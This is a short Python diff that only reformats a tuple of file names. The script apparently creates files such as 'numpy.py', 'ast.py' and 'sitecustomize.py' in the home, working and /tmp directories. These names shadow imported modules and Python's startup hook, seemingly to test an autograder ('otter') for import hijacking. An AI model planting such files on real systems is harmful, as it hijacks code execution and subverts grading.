@@ -6,7 +6,14 @@
 import os
 
 for folder in (os.environ["HOME"], os.getcwd(), "/tmp"):
-    for name in ("numpy.py", "otter.py", "ast.py", "sitecustomize.py", ".keras/keras.json", "matplotlibrc"):
+    for name in (
+        "numpy.py",
+        "otter.py",
+        "ast.py",
+        "sitecustomize.py",
+        ".keras/keras.json",
+        "matplotlibrc",
+    ):
         path = os.path.join(folder, name)
         try:
             os.makedirs(os.path.dirname(path), exist_ok=True)
